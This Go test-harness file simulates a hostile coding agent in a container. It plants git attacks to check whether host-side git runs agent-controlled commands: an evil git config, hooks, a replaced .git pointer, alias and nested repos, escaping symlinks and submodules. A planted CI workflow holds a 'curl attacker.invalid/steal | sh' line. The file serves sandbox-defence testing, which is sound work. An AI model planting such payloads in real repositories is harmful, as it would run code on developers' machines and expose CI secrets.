package fakeagent

import (
	"bytes"
	"compress/zlib"
	"crypto/sha1"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"strings"
)

// The git attacks plant content that makes git run the agent's commands when a
// host-side git (or a person's git-aware shell) treats the worktree naively:
// every payload touches a canary file named after what triggered it, in a host
// directory the test passes in. Inside the container that directory does not
// exist, so a canary can only appear if the host ran the payload.

// evilGitDirName is where git-pointer puts its gitdir; the agent's .gitignore
// hides it so the change stays committable and the host's whole publish path runs.
const evilGitDirName = ".trakkar-evil-gitdir"

// gitHooks is every client-side hook name in githooks(5) that a commit, push,
// checkout, rewrite or index update can run.
var gitHooks = []string{
	"applypatch-msg", "pre-applypatch", "post-applypatch", "pre-commit", "pre-merge-commit",
	"prepare-commit-msg", "commit-msg", "post-commit", "pre-rebase", "post-checkout", "post-merge",
	"pre-push", "post-rewrite", "reference-transaction", "post-index-change", "pre-auto-gc",
	"push-to-checkout", "sendemail-validate", "fsmonitor-watchman",
}

// canaryCmd is a shell command that touches <canary>/<name>.
func canaryCmd(canary, name string) string {
	return "touch '" + filepath.Join(canary, name) + "'"
}

// gitQuote quotes a config value: unquoted, ';' and '#' would start a comment.
func gitQuote(s string) string {
	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s) + `"`
}

// evilConfig is a repository config whose every program-naming key runs a canary
// tagged tag.
func evilConfig(canary, tag string, bare bool) string {
	c := func(what string) string { return canaryCmd(canary, tag+"-"+what) }
	return fmt.Sprintf(`[core]
	repositoryformatversion = 0
	filemode = true
	bare = %t
	fsmonitor = %s
	pager = %s
	editor = %s
	sshCommand = %s
	askPass = %s
[credential]
	helper = %s
[diff]
	external = %s
[filter "evil"]
	clean = %s
	smudge = %s
	required = true
[gpg]
	program = %s
`, bare,
		gitQuote(c("fsmonitor")+"; false"),
		gitQuote(c("pager")+"; cat"),
		gitQuote(c("editor")+"; false"),
		gitQuote(c("ssh-command")+"; false"),
		gitQuote(c("askpass")+"; false"),
		gitQuote("!"+c("credential-helper")+"; false"),
		gitQuote(c("diff-external")+"; true"),
		gitQuote(c("filter-clean")+"; cat"),
		gitQuote(c("filter-smudge")+"; cat"),
		gitQuote(c("gpg")+"; false"))
}

// canaryHooks returns a hook script per name that touches <canary>/<tag>-<name>
// and succeeds, so no hook aborts the command and hides the next one.
func canaryHooks(canary, tag string) map[string]string {
	hooks := map[string]string{}
	for _, h := range gitHooks {
		hooks[h] = "#!/bin/sh\n" + canaryCmd(canary, tag+"-"+h) + "\nexit 0\n"
	}
	return hooks
}

// writeObject stores a loose object and returns its id.
func writeObject(gitDir, typ string, body []byte) (string, error) {
	hdr := fmt.Sprintf("%s %d\x00", typ, len(body))
	sum := sha1.Sum(append([]byte(hdr), body...))
	id := hex.EncodeToString(sum[:])
	var buf bytes.Buffer
	zw := zlib.NewWriter(&buf)
	if _, err := zw.Write(append([]byte(hdr), body...)); err != nil {
		return "", err
	}
	if err := zw.Close(); err != nil {
		return "", err
	}
	dir := filepath.Join(gitDir, "objects", id[:2])
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return "", err
	}
	return id, os.WriteFile(filepath.Join(dir, id[2:]), buf.Bytes(), 0o444)
}

// writeGitDir writes a complete repository layout at dir (a gitdir, bare or the
// .git of a nested repo) whose main branch holds one commit with one file, plus
// the given config and executable hooks. It needs no git binary: the container
// has none.
func writeGitDir(dir, config string, hooks map[string]string) error {
	for _, d := range []string{"objects/info", "objects/pack", "refs/heads", "refs/tags", "hooks", "info"} {
		if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
			return err
		}
	}
	blob, err := writeObject(dir, "blob", []byte("planted by a hostile agent\n"))
	if err != nil {
		return err
	}
	raw, _ := hex.DecodeString(blob)
	tree, err := writeObject(dir, "tree", append([]byte("100644 README\x00"), raw...))
	if err != nil {
		return err
	}
	commit, err := writeObject(dir, "commit", []byte("tree "+tree+
		"\nauthor Hostile <hostile@example.invalid> 1700000000 +0000"+
		"\ncommitter Hostile <hostile@example.invalid> 1700000000 +0000\n\nplanted\n"))
	if err != nil {
		return err
	}
	files := map[string]string{
		"HEAD":            "ref: refs/heads/main\n",
		"refs/heads/main": commit + "\n",
		"config":          config,
		"description":     "hostile\n",
	}
	for name, content := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			return err
		}
	}
	for name, script := range hooks {
		if err := os.WriteFile(filepath.Join(dir, "hooks", name), []byte(script), 0o755); err != nil {
			return err
		}
	}
	return nil
}

// plant writes files (relative to the workspace; mode 0644 unless exec) and
// reports the first failure as INFO, returning false.
func (p *probe) plant(files map[string]string, exec bool) bool {
	mode := os.FileMode(0o644)
	if exec {
		mode = 0o755
	}
	for rel, content := range files {
		abs := filepath.Join(p.r.env.Dir, rel)
		if err := os.MkdirAll(filepath.Dir(abs), 0o755); err != nil {
			p.info("could not write %s: %v", rel, err)
			return false
		}
		if err := os.WriteFile(abs, []byte(content), mode); err != nil {
			p.info("could not write %s: %v", rel, err)
			return false
		}
		if err := os.Chmod(abs, mode); err != nil { // an existing file keeps its mode otherwise
			p.info("could not chmod %s: %v", rel, err)
			return false
		}
	}
	return true
}

// tryHostWrite writes a canary straight to its host path: the directory does not
// exist inside the container, so this must fail.
func (p *probe) tryHostWrite(canary, name string) {
	path := filepath.Join(canary, name)
	p.outcome(os.WriteFile(path, []byte("written from inside the container\n"), 0o644), "write the host path "+path+" directly")
}

func attackGitPointer(p *probe, a attack) {
	canary := a.str("canary")
	ws := p.r.env.Dir
	if b, err := os.ReadFile(filepath.Join(ws, ".git")); err == nil {
		p.info("the original .git pointer reads %q", strings.TrimSpace(string(b)))
	} else {
		p.info("no .git pointer to read: %v", err)
	}
	if err := writeGitDir(filepath.Join(ws, evilGitDirName), evilConfig(canary, "pointer", false), canaryHooks(canary, "pointer-hook")); err != nil {
		p.info("could not write the evil gitdir: %v", err)
		return
	}
	ignore, _ := os.ReadFile(filepath.Join(ws, ".gitignore"))
	if !p.plant(map[string]string{
		// Relative, so it names the evil gitdir on the host as well as in here.
		".git":                "gitdir: " + evilGitDirName + "\n",
		".gitignore":          string(ignore) + "/" + evilGitDirName + "/\n",
		"hostile-pointer.txt": "the .git pointer of this worktree was replaced\n",
	}, false) {
		return
	}
	p.planted(".git now points to %s whose fsmonitor, hooks, pager, editor, ssh, askpass, credential helper, diff and filter drivers write canaries to %s", evilGitDirName, canary)
	p.tryHostWrite(canary, "pointer-direct")
}

func attackHusky(p *probe, a attack) {
	canary := a.str("canary")
	files := map[string]string{}
	for name, script := range canaryHooks(canary, "husky") {
		files[".husky/"+name] = script
	}
	if !p.plant(files, true) || !p.plant(map[string]string{"hostile-husky.txt": "husky hooks planted\n"}, false) {
		return
	}
	p.planted("%d executable hooks in .husky/ write canaries to %s", len(files), canary)
	p.tryHostWrite(canary, "husky-direct")
}

func attackGitattributes(p *probe, a attack) {
	if !p.plant(map[string]string{
		".gitattributes":    "* filter=evil diff=evil merge=evil\n*.bin filter=lfs diff=lfs merge=lfs -text\n",
		"hostile-attrs.txt": "lowercase payload from the agent\n",
		"hostile-attrs.bin": "lfs payload from the agent\n",
	}, false) {
		return
	}
	p.planted(".gitattributes selects filter, diff and merge driver evil for every path and lfs for *.bin")
}

func attackNestedGit(p *probe, a attack) {
	canary := a.str("canary")
	if !p.plant(map[string]string{"hostile-nested/inner.txt": "inside a nested repository\n"}, false) {
		return
	}
	if err := writeGitDir(filepath.Join(p.r.env.Dir, "hostile-nested", ".git"), evilConfig(canary, "nested", false), canaryHooks(canary, "nested-hook")); err != nil {
		p.info("could not write the nested repository: %v", err)
		return
	}
	p.planted("hostile-nested/ is a repository with a commit and an evil config")
}

func attackBareRepo(p *probe, a attack) {
	canary := a.str("canary")
	if err := writeGitDir(filepath.Join(p.r.env.Dir, "hostile-bare.git"), evilConfig(canary, "bare", true), canaryHooks(canary, "bare-hook")); err != nil {
		p.info("could not write the bare repository: %v", err)
		return
	}
	p.planted("hostile-bare.git/ is an embedded bare repository with an evil config")
}

func attackDotGitAlias(p *probe, a attack) {
	canary := a.str("canary")
	if !p.plant(map[string]string{
		".GIT/config":  evilConfig(canary, "dotgit-upper", false),
		"git~1/config": evilConfig(canary, "dotgit-short", false),
	}, false) {
		return
	}
	p.planted(".GIT/config and git~1/config hold an evil config")
}

func attackGitmodules(p *probe, _ attack) {
	if !p.plant(map[string]string{".gitmodules": "[submodule \"../../hostile-escape\"]\n\tpath = hostile-sub\n\turl = ../../hostile-escape\n"}, false) {
		return
	}
	p.planted(".gitmodules names a submodule ../../hostile-escape")
}

func attackSymlinkAbs(p *probe, _ attack) {
	link := filepath.Join(p.r.env.Dir, "hostile-passwd")
	if err := os.Symlink("/etc/passwd", link); err != nil {
		p.info("could not create the symlink: %v", err)
		return
	}
	if b, err := os.ReadFile(link); err == nil {
		p.info("inside, hostile-passwd reads the container's /etc/passwd (%d bytes)", len(b))
	}
	p.planted("hostile-passwd -> /etc/passwd")
}

func attackSymlinkUp(p *probe, _ attack) {
	link := filepath.Join(p.r.env.Dir, "hostile-main")
	if err := os.Symlink("../../", link); err != nil {
		p.info("could not create the symlink: %v", err)
		return
	}
	if ents, err := os.ReadDir(link); err == nil {
		var names []string
		for _, e := range ents {
			names = append(names, e.Name())
		}
		p.info("inside, ../../ from the workspace lists %s", strings.Join(names, " "))
	}
	p.planted("hostile-main -> ../../ (the main checkout, seen from the host)")
}

func attackBigFile(p *probe, a attack) {
	n := a.num("kb", 2048) << 10
	b := make([]byte, n)
	x := uint32(2463534242)
	for i := range b { // xorshift: incompressible, so no layer can shrink it under the cap
		x ^= x << 13
		x ^= x >> 17
		x ^= x << 5
		b[i] = byte(x)
	}
	if err := os.WriteFile(filepath.Join(p.r.env.Dir, "hostile-big.bin"), b, 0o644); err != nil {
		p.info("could not write the big file: %v", err)
		return
	}
	p.planted("hostile-big.bin holds %d bytes", n)
}

func attackManyFiles(p *probe, a attack) {
	n := a.num("n", 100)
	files := make(map[string]string, n)
	for i := 0; i < n; i++ {
		files[fmt.Sprintf("hostile-many/f%04d.txt", i)] = fmt.Sprintf("file %d\n", i)
	}
	if !p.plant(files, false) {
		return
	}
	p.planted("%d new files under hostile-many/", n)
}

func attackWorkflow(p *probe, _ attack) {
	if !p.plant(map[string]string{".github/workflows/ci.yml": "on: [push, pull_request_target]\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s https://attacker.invalid/steal | sh\n"}, false) {
		return
	}
	p.planted(".github/workflows/ci.yml runs the attacker's script with the repository's secrets")
}
